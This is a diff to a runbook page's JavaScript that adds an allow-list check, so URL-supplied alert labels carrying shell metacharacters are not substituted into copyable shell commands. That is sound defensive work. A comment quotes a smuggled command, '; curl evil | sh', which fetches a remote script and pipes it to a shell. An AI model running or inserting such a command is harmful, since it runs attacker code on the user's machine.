@@ -70,6 +70,7 @@
   // Params (an alert's labels): the page's URL (?namespace=shop) wins over the runbook's default.
   // An empty value (`deployment=` from an alert that has no such label) keeps the default.
   var paramInputs = Array.prototype.slice.call(doc.querySelectorAll("input[data-param]"));
+  var SAFE_VALUE = /^[A-Za-z0-9._:\/@+=,%-]*$/;
   paramInputs.forEach(function (input) {
     var name = input.getAttribute("data-param");
     if (query.get(name)) input.value = query.get(name);
@@ -103,9 +104,16 @@
     var vars = Object.create(null);
     var own = (chosen && chosen.vars) || {};
     Object.keys(own).forEach(function (name) { vars[name] = own[name]; });
-    // An empty input leaves its {{ name }} visible, so a missing label is noticed.
+    // An empty input leaves its {{ name }} visible, so a missing label is noticed. A value goes
+    // into commands a responder pastes into a shell, and a link can carry any value: one with a
+    // character that could end a quoted word or start another command (`;`, `|`, `$`, quotes,
+    // spaces, brackets) is not filled in, and its input is marked, so a crafted link cannot
+    // slip `; curl evil | sh` into a copied command.
     paramInputs.forEach(function (input) {
-      if (input.value !== "") vars[input.getAttribute("data-param")] = input.value;
+      var safe = SAFE_VALUE.test(input.value);
+      input.setAttribute("aria-invalid", safe ? "false" : "true");
+      input.title = safe ? "" : "not filled in: use letters, digits and . _ : / @ + = , % - only";
+      if (input.value !== "" && safe) vars[input.getAttribute("data-param")] = input.value;
     });
     function filled(template) {
       return template.replace(/\{\{\s*([A-Za-z0-9_.-]*)\s*\}\}/g, function (all, name) {
